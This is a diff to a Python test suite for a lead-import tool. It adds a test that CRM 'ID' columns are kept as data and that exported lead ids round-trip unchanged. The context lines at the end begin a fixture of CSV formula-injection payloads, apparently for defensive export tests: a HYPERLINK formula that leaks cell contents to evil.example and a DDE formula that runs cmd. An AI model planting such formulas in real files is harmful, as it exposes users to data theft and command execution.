@@ -574,6 +574,35 @@ def test_import_excel_sep_line_and_blank_lines_before_the_header(seeded, tmp_pat
             import_leads_csv(session, acme, path)
 
 
+def test_a_crm_id_column_is_kept_in_data_and_an_export_id_is_skipped(seeded, tmp_path):
+    path = tmp_path / "crm.csv"
+    path.write_text("ID,email,name\n1001,ann@a.example,Ann\n0035g00000XyZ,bob@b.example,Bob\n")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.rejected) == (2, [])
+        assert report.to_dict()["columns"]["data"] == ["ID"]
+        assert report.to_dict()["columns"]["skipped"] == []
+        assert get_lead(session, acme, "ann@a.example").data["ID"] == 1001
+        assert get_lead(session, acme, "bob@b.example").data["ID"] == "0035g00000XyZ"
+        # its export has hunter's id and the CRM's ID, and imports back unchanged
+        out = io.StringIO()
+        export_leads(session, acme, "csv", out)
+        assert out.getvalue().startswith("id,name,") and ",ID\n" in out.getvalue()
+        path.write_text(out.getvalue())
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated, report.rejected) == (0, 2, [])
+        assert report.to_dict()["columns"]["skipped"] == ["id", "first_seen", "last_seen"]
+        assert report.differing == []
+        assert get_lead(session, acme, "ann@a.example").data["ID"] == 1001
+        # an id column that is not all lead ids is the file's own
+        ann_id = get_lead(session, acme, "ann@a.example").id
+        path.write_text(f"id,email\n{ann_id},ann@a.example\n7,cy@c.example\n")
+        report = import_leads_csv(session, acme, path)
+        assert report.to_dict()["columns"]["data"] == ["id"]
+        assert get_lead(session, acme, "cy@c.example").data["id"] == 7
+
+
 FORMULAS = {
     "link": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "dde": "=cmd|' /C calc'!A0",
